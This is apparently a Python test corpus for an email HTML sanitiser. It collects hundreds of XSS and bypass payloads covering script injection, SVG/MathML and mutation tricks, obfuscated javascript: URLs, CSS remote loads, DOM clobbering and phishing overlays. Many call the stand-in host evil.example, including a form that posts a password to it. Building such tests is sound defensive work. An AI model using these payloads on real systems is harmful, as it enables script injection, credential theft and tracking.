"""Every known way past a sanitiser of mail, as mails: each tries to run, load, leave or cover.

What they must not do is the same for all: run a script (each would call `alert`), ask another host
for anything before the reader asks for it, send anything, open a dialog, change the page around
them, or be seen outside their frame.
"""

from __future__ import annotations

# A host of its own, so that whatever is asked of it was asked by the mail.
EVIL = "https://evil.example"

_ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:alert(1)")
_HEX = "".join(f"&#x{ord(letter):06X};" for letter in "javascript:alert(1)")

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script from a host": f'<script src="{EVIL}/x.js"></script>',
    "script without an end": "<script>alert(1)//",
    "script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": f"<script/x src={EVIL}/x.js></script>",
    "script of type module": f'<script type="module">import "{EVIL}/x.js"</script>',
    "image with onerror": "<img src=x onerror=alert(1)>",
    "image in quotes and slashes": '<img/src="x"/onerror=alert(1)>',
    "image without an end": "<img src=x onerror=alert(1) ",
    "image with a NUL": "<img src=x onerror\x00=alert(1)>",
    "image with a grave accent": "<img src=`x`onerror=alert(1)>",
    "tripled quotes": '<img """><script>alert("XSS")</script>">',
    "body with onload": "<body onload=alert(1)>",
    "body in the middle": "<p>x<body onpageshow=alert(1)><p onclick=alert(1)>y",
    "html with handlers": "<html onmouseover=alert(1)><head onload=alert(1)>x",
    "details": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "input": "<input autofocus onfocus=alert(1)>",
    "marquee": "<marquee onstart=alert(1) loop=1>x</marquee>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>x",
    "transition": "<p style='transition:color 1s' ontransitionend=alert(1)>x",
    "audio": "<audio src=x onerror=alert(1)></audio><video><source onerror=alert(1)></video>",
    "select": "<select autofocus onfocus=alert(1)><option>x</select>",
    "unknown element": "<xyz onclick=alert(1) tabindex=1 onfocus=alert(1) id=x>x</xyz>",
    "popover": "<button popovertarget=x>c</button><p popover id=x onbeforetoggle=alert(1)>x",
    "import map": '<script type="importmap">{"imports":{"a":"https://evil.example/x.js"}}</script>',
    "data island": "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>",
    "Internet Explorer's comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "downlevel comment": "<![if !mso]><script>alert(1)</script><![endif]>",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a><img src="vbscript:msgbox(1)">',
}

NAMESPACES = {
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg script with entities": "<svg><script>&#97;lert(1)</script></svg>",
    "svg animate": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>"
    ),
    "svg animate of an image": (
        f"<svg><image><animate attributeName=href values={EVIL}/svg-animate.png /></image></svg>"
    ),
    "svg set": "<svg><set attributeName=onmouseover to=alert(1)><rect width=99 height=99 /></svg>",
    "svg begin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='{EVIL}/x.svg#x' /></svg>",
    "svg use of data": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='alert(1)'/></svg>#x\" /></svg>"
    ),
    "svg image": f"<svg><image href='{EVIL}/svg-image.png' xlink:href='{EVIL}/xlink.png' /></svg>",
    "svg feImage": f"<svg><filter><feImage href='{EVIL}/fe.png' /></filter></svg>",
    "svg foreignObject": (
        "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>"
    ),
    "svg link": "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "svg handler": "<svg><handler ev:event=load>alert(1)</handler></svg>",
    "svg xml:base": f"<svg xml:base='{EVIL}/'><image href=a.png /></svg><p xml:base='{EVIL}/'>x</p>",
    "MathML link": "<math href='javascript:alert(1)'>x</math>",
    "MathML action": (
        "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction>"
    ),
    "MathML annotation": (
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>"
    ),
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "CDATA in svg": "<svg><![CDATA[<image xlink:href='x' onerror=alert(1)>]]></svg>",
    "CDATA that ends in an attribute": (
        "<svg><![CDATA[><img title=']]><img src=x onerror=alert(1)>'></svg>"
    ),
    "processing instruction": "<?xml version='1.0'?><?import ><img src=x onerror=alert(1)>",
    "doctype with entities": "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
}

MUTATIONS = {
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "noscript in a comment": "<noscript><!--</noscript><img src=x onerror=alert(1)>-->",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "template with a shadow": (
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>"
    ),
    "textarea": '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "title": '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    "style": '<style><a title="</style><img src=x onerror=alert(1)>"></style>',
    "style in svg": '<svg><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>',
    "style in math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
        '&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "style in svg in math": (
        '<math><mtext></mtext><mglyph><svg><mtext><style><a title="</style>'
        "<img src='x' onerror='alert(1)'>\"></style></mtext></svg></mglyph></math>"
    ),
    "nested forms": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>"
    ),
    "nested forms with a table": (
        "<form id=a><div></form><form id=b><table><form id=c><input name=x></table>"
        "<math><mtext><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>"
    ),
    "p in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "br in math": '<math></br><style><a id="</style><img src=1 onerror=alert(1)>">',
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "noembed": '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "plaintext": "<p>x<plaintext><img src=x onerror=alert(1)>",
    "iframe text": '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "select": "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img id=x src=x onerror=alert(1)>'></a></style></template></select>",
    "listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment that ends oddly": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment in a comment": "<!--<!--><img src=x onerror=alert(1)>--><!-->",
    "deep": "<div>" * 300
    + "<form><table><svg><style><a id='</style><img src=x onerror=alert(1)>'>",
    "clobbering": (
        "<form name=body id=documentElement><img name=cookie><input name=parentNode id=attributes>"
        "<img name=documentElement><a id=location href='javascript:alert(1)'>x</a></form>"
        "<a id=defaultView name=x></a><object name=scrollHeight></object>"
    ),
}

STYLES = {
    "url in style": f"<p style=\"background:url('{EVIL}/css-url.png')\">x",
    "url without quotes": f"<p style='background-image:url({EVIL}/bare.png)'>x",
    "url with escapes": f"<p style='background:u\\72l({EVIL}/escaped.png)'>x",
    "url with a comment": f"<p style='background:/**/url(/**/{EVIL}/comment.png)'>x",
    "url of a script": "<p style='background:url(javascript:alert(1))'>x",
    "url in a list": f"<ul style='list-style:url({EVIL}/list.png)'><li>x</ul>",
    "url of a cursor": f"<p style='cursor:url({EVIL}/cursor.cur),auto'>x",
    "url of a border": f"<p style='border-image:url({EVIL}/border.png) 1'>x",
    "url of content": f"<style>p:before{{content:url({EVIL}/content.png)}}</style><p>x",
    "url of a mask": f"<p style='mask:url({EVIL}/mask.svg#x);clip-path:url({EVIL}/clip.svg#x)'>x",
    "FuncIRI of a filter": f"<p style='filter:url({EVIL}/filter.svg#x)'>x",
    "FuncIRI in svg": f"<svg><rect fill='url({EVIL}/fill.svg#x)' width=9 height=9 /></svg>",
    "image-set": f"<p style=\"background-image:image-set('{EVIL}/set.png' 1x)\">x",
    "old image-set": f'<p style="background:-webkit-image-set(url({EVIL}/wset.png) 1x)">x',
    "cross-fade": f"<p style='background:-webkit-cross-fade(url({EVIL}/a.png),url(b.png),50%)'>x",
    "image()": f"<p style=\"background:image('{EVIL}/image.png')\">x",
    "src()": f"<p style=\"background:src('{EVIL}/src.png')\">x",
    "var()": f"<p style='--x:url({EVIL}/var.png);background:var(--x)'>x",
    "var() of a sheet": (
        f"<style>:root{{--x:url({EVIL}/rootvar.png)}} p{{background-image:var(--x)}}</style><p>x"
    ),
    "attr()": f"<p title='{EVIL}/attr.png' style='background:attr(title)'>x",
    "env()": "<p style='width:env(safe-area-inset-top,1px);position:fixed'>x",
    "@property": (
        f"<style>@property --x{{syntax:'<image>';inherits:true;initial-value:url({EVIL}/p.png)}}"
        "p{background:var(--x)}</style><p>x"
    ),
    "@import": f"<style>@import url({EVIL}/import.css);</style>",
    "@import as text": f"<style>@import '{EVIL}/import-text.css';</style>",
    "@import with an escape": f"<style>@\\69mport '{EVIL}/import-escaped.css';</style>",
    "@import in a layer": f"<style>@import url({EVIL}/layer.css) layer(x) supports(color:red);</style>",
    "@import without an end": f"<style>@import url({EVIL}/endless.css",
    "@font-face": (
        f"<style>@font-face{{font-family:x;src:url({EVIL}/font.woff)}}p{{font-family:x}}</style><p>x"
    ),
    "@media": f"<style>@media all{{p{{background:url({EVIL}/media.png)}}}}</style><p>x",
    "@supports": f"<style>@supports (color:red){{p{{background:url({EVIL}/s.png)}}}}</style><p>x",
    "@namespace": f"<style>@namespace url({EVIL}/ns);p{{color:red}}</style><p>x",
    "nesting": f"<style>div{{color:red;& p{{background:url({EVIL}/nest.png)}}}}</style><div><p>x</div>",
    "attribute selector": f"<style>[title^=x]{{background:url({EVIL}/sel.png)}}</style><p title=xy>x",
    "expression": "<p style='width:expression(alert(1));w\\69dth:expression(alert(1))'>x",
    "behavior": f"<p style='behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml#x)'>x",
    "string that ends the element": "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}",
    "escaped end": "<style>p{font-family:'\\3c/style\\3e\\3cimg src=x onerror=alert(1)\\3e'}</style><p>x",
    "font that ends the attribute": (
        "<p style=\"font-family:'&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'\">x"
    ),
    "class that ends the element": "<style>.\\3c\\2fstyle\\3e{color:red}</style><p>x",
    "link": f"<link rel=stylesheet href={EVIL}/link.css><link rel=icon href={EVIL}/icon.png>",
    "style of type": f"<style type=text/css media=all>p{{background:url({EVIL}/typed.png)}}</style><p>x",
    "position": (
        "<div id=cover style='position:fixed;inset:0;width:100%;height:100%;z-index:2147483647;"
        "background:red'>Session ended. Log in again.</div>"
    ),
    "position with an escape": (
        "<div id=cover style='p\\6fsition:f\\69xed;top:0;left:0;width:2000px;height:2000px'>x</div>"
    ),
    "position in a sheet": (
        "<style>#cover{position:fixed!important;top:0;left:0;width:9999px;height:9999px;"
        "z-index:99999!important;background:red!important}</style><div id=cover>x</div>"
    ),
    "sticky": "<div id=cover style='position:sticky;top:0;height:2000px;background:red'>x</div>",
    "absolute": "<div id=cover style='position:absolute;top:-900px;left:-900px;width:3000px'>x</div>",
    "negative margin": (
        "<div id=cover style='margin:-2000px;width:9000px;height:9000px;background:red'>x</div>"
    ),
    "transform": (
        "<div id=cover style='transform:translate(-900px,-900px) scale(99);background:red'>x</div>"
    ),
    "important over the frame": (
        "<style>html,body,iframe,*{display:none!important;visibility:hidden!important;"
        "position:fixed!important;inset:0!important;height:100vh!important}</style><p>x"
    ),
    "host that hides": (
        "<style>.mailapp-host,span,a+span{display:none!important;font-size:0!important}</style>"
        f"<a href={EVIL}/>bank.example</a>"
    ),
}

ADDRESSES = {
    "javascript": "<a href=javascript:alert(1)>x</a>",
    "javascript in capitals": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "javascript with a tab": "<a href='jav\tascript:alert(1)'>x</a>",
    "javascript with a written tab": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript with a newline": "<a href='java\nscript:alert(1)'>x</a>",
    "javascript with named entities": "<a href='java&NewLine;script&colon;alert&lpar;1&rpar;'>x</a>",
    "javascript after controls": "<a href=' \x01\x1fjavascript:alert(1)'>x</a>",
    "javascript after a written control": "<a href='&#14; javascript:alert(1)'>x</a>",
    "javascript in entities": f"<a href='{_ENTITIES}'>x</a>",
    "javascript in long entities": f"<a href='{_HEX}'>x</a>",
    "javascript in an area": (
        "<map name=m><area shape=default href='javascript:alert(1)'></map>"
        "<img usemap=#m width=99 height=99>"
    ),
    "javascript in a form": "<form action=javascript:alert(1)><button>x</button></form>",
    "javascript in a formaction": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "javascript in an iframe": "<iframe src=javascript:alert(1)></iframe>",
    "javascript in an object": "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "javascript in old attributes": (
        "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>"
        "<table background=javascript:alert(1)><td background='javascript:alert(1)'>x</table>"
        "<bgsound src=javascript:alert(1)><layer src=javascript:alert(1)></layer>"
        "<isindex action=javascript:alert(1) type=image><q cite=javascript:alert(1)>x</q>"
    ),
    "data page": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data page in base64": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "data in an iframe": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "data in an object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "data svg": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"
    ),
    "blob and filesystem": "<a href=blob:null/1>x</a><a href=filesystem:http://x/y>x</a><a href=file:///>x</a>",
    "srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "srcdoc in entities": "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "frame of a host": f"<iframe src={EVIL}/frame></iframe><frameset><frame src={EVIL}/f></frameset>",
    "portal": f"<portal src={EVIL}/portal></portal><fencedframe src={EVIL}/fenced></fencedframe>",
    "base": f"<base href={EVIL}/><a href=page>x</a><img src=based.png>",
    "base with a target": "<base target=_top><a href='https://evil.example/top'>x</a>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "refresh to data": (
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>"
    ),
    "cookie": "<meta http-equiv=set-cookie content='mailapp=stolen'>",
    "policy": "<meta http-equiv=content-security-policy content=\"default-src * 'unsafe-inline'\">",
    "form": f"<form action={EVIL}/form method=post><input name=password type=password><button>x</button>",
    "formaction": (
        f"<form id=f></form><button form=f formaction={EVIL}/formaction>x</button>"
        f"<input type=image src={EVIL}/input.png formaction={EVIL}/i>"
    ),
    "image": f"<img src={EVIL}/image.png>",
    "image without a scheme": "<img src=//evil.example/noscheme.png>",
    "image with back slashes": "<img src='https:\\\\evil.example\\back.png'>",
    "image with spaces": f"<img src='  {EVIL}/spaces.png  '>",
    "image with a line break": "<img src='https:\n//evil.exa\nmple/newline.png'>",
    "image of old": f"<image src={EVIL}/image-element.png>",
    "srcset": f"<img srcset='{EVIL}/srcset.png 2x, {EVIL}/srcset3.png 3x'>",
    "srcset beside src": f"<img src=cid:a srcset='{EVIL}/beside.png 1x' sizes=100vw>",
    "picture": f"<picture><source srcset={EVIL}/picture.png><img alt=x></picture>",
    "poster": f"<video poster={EVIL}/poster.png src={EVIL}/v.mp4 autoplay></video>",
    "audio and track": f"<audio src={EVIL}/a.mp3 autoplay></audio><video><track src={EVIL}/t.vtt default>",
    "background": f"<body background={EVIL}/bg.png><table background={EVIL}/tbg.png><td>x</table>",
    "object, embed, applet": (
        f"<object data={EVIL}/o></object><embed src={EVIL}/e><applet codebase={EVIL}/ code=x></applet>"
    ),
    "ping": f"<a href='#x' ping={EVIL}/ping>x</a>",
    "prefetch": (
        f"<link rel=prefetch href={EVIL}/prefetch><link rel=preload as=image href={EVIL}/preload.png>"
        f"<link rel=modulepreload href={EVIL}/m.js><link rel=prerender href={EVIL}/prerender>"
        f"<link rel=manifest href={EVIL}/manifest.json>"
    ),
    "speculation": (
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/spec"]}}]}}</script>'
    ),
    "link to the top": f"<a target=_top href={EVIL}/top>x</a><a target=_parent href={EVIL}/parent>x</a>",
    "link within the frame": f"<a target=_self href={EVIL}/self>x</a>",
    "download": f"<a download href={EVIL}/download.exe>x</a>",
    "attribution": f"<img attributionsrc={EVIL}/attribution alt=x><a attributionsrc href='#x'>x</a>",
}

# What is harmless text until somebody takes it for more.
AFTERWARDS = {
    "escaped tag": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
    "escaped twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "address with a quote": 'https://evil.example/"onmouseover=alert(1)//',
    "address with an escaped quote": "https://evil.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "address with an apostrophe": "https://evil.example/'onclick='alert(1)",
    "script as an address": "javascript:alert(1) javascript://evil.example/%0aalert(1)",
    "address around a tag": "https://evil.example/<b>x</b>&lt;script&gt;alert(1)&lt;/script&gt;",
    "address that is escaped": "https:&#47;&#47;evil.example/&quot;onfocus=alert(1)&Tab;autofocus",
    "title of a link": '<a title=\'x" onclick="alert(1)\' href="https://evil.example/">x</a>',
    "attribute with a bracket": '<img alt="><img src=x onerror=alert(1)>"><p title="--><script>">x',
    "null in a tag": "<\x00script>alert(1)</script><scr\x00ipt>alert(1)</script>",
    "overlong and surrogates": "\ufeff<\ufeffscript>alert(1)</script>\ud83d<b>\udc00",
    "wide brackets": "＜script＞alert(1)＜/script＞ ‹img onerror=alert(1)›",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

UNCLOSED = {
    "tag": "<p>x<a href=https://evil.example/ title=",
    "attribute": "<p>x<a href='https://evil.example/",
    "comment": "<p>x<!-- <b>",
    "style": f"<p>x<style>p{{background:url({EVIL}/u.png)",
    "title": "<p>x<title><img src=x onerror=alert(1)>",
    "textarea": "<p>x<textarea><img src=x onerror=alert(1)>",
    "entity": "<a href='java&#115'>x</a>&#0;&#xD800;&#x110000;&notanentity &amp",
    "table": "<table><tr><td><table><p>x<a href=https://evil.example/>y",
    "everything": '<table><svg><math><select><style><!--<a href="<img src=x onerror=alert(1)>',
    "svg": f"<svg><image href={EVIL}/unclosed.png",
}

CORPUS = {
    f"{group}: {name}": html
    for group, cases in {
        "scripts": SCRIPTS,
        "namespaces": NAMESPACES,
        "mutations": MUTATIONS,
        "styles": STYLES,
        "addresses": ADDRESSES,
        "afterwards": AFTERWARDS,
        "unclosed": UNCLOSED,
    }.items()
    for name, html in cases.items()
}
